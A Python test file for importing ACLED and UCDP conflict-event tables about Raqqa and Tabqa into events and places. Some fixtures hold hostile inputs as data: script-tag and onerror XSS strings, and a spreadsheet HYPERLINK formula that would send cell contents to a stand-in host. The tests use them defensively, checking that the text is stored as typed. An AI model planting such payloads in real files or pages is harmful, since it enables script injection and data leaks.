"""Event tables (layers/core/import_events.py): ACLED and UCDP GED rows become events and places, their text stored
as typed."""

from __future__ import annotations

import datetime as dt

from layers.core import Territory, imports, load_dataset
from tests.import_inputs import acled, acled_row, config_file, ucdp, ucdp_row


def test_acled_table_becomes_events_and_places(tmp_path):
    table = acled(
        acled_row("SYR1", notes="<script>alert(1)</script>"),
        acled_row("SYR2", date="06 June 2017", lat="35.97", lon="39.01", location="Raqqa", geo_precision="3",
                  time_precision="2", source="Reuters https://example.com/raqqa"),
        acled_row("SYR3", lat="35.96", lon="39.02", location="الرقة"),
    )  # fmt: skip
    imports.save(imports.prepare(config_file(), [table]), tmp_path / "t")
    ds = load_dataset(tmp_path / "t")
    e1, e2 = (e for e in ds.events if e.event_id != "SYR3")
    assert (e1.event_id, e1.date, e1.title, e1.confidence) == (
        "SYR1",
        dt.date(2017, 2, 3),
        "Armed clash at Tabqa",
        "high",
    )
    assert e1.detail == "SDF v ISIS. <script>alert(1)</script> Source: SOHR."
    assert e1.source_urls == ("https://example.org/source",)
    assert (e2.date, e2.date_precision, e2.confidence) == (dt.date(2017, 6, 6), "approx", "medium")
    assert e2.source_urls == ("https://example.com/raqqa",)
    tabqa, raqqa = ds.places["loc-tabqa"], ds.places["loc-raqqa"]
    assert ds.places["loc-35.9600n-39.0200e"].name == "الرقة"  # no Latin letters: the id comes from the point
    assert (tabqa.kind, tabqa.confidence, tabqa.lon, tabqa.lat) == ("event location", "high", 38.95, 35.95)
    assert raqqa.confidence == "low"  # ACLED geo_precision 3
    assert set(Territory(ds).control_at(dt.date(2017, 6, 6)).polygons) == {"no reporting"}


def test_ucdp_table_becomes_events(tmp_path):
    table = ucdp(ucdp_row(article="AFP 2017-03-05 https://example.com/a"), ucdp_row("124", "2017-04-01", "2017-04-01"))
    imports.save(imports.prepare(config_file(), [table]), tmp_path / "t")
    ds = load_dataset(tmp_path / "t")
    ranged, day = ds.events
    assert (ranged.event_id, ranged.date_precision, ranged.source_urls) == (
        "GED-123",
        "range",
        ("https://example.com/a",),
    )
    assert ranged.title == "SDF v IS at Raqqa town"
    assert "Deaths (best estimate): 4." in ranged.detail
    assert (day.event_id, day.date_precision) == ("GED-124", "day")
    assert set(Territory(ds).control_at(dt.date(2017, 3, 5)).polygons) == {"no reporting"}  # events hold no ground
    assert ds.places[ranged.place_id].name == "Raqqa town"
    assert ranged.place_id == day.place_id  # one place for one location


def test_hostile_text_is_stored_as_typed(tmp_path):
    notes = '=HYPERLINK("http://x/?"&A1,"click") <img src=x onerror=alert(1)>'
    imported = imports.prepare(config_file(), [acled(acled_row(notes=notes, location="<b>Tabqa</b>"))])
    imports.save(imported, tmp_path / "t")
    (event,) = load_dataset(tmp_path / "t").events
    assert event.detail == f"SDF v ISIS. {notes} Source: SOHR."
    assert event.title == "Armed clash at <b>Tabqa</b>"
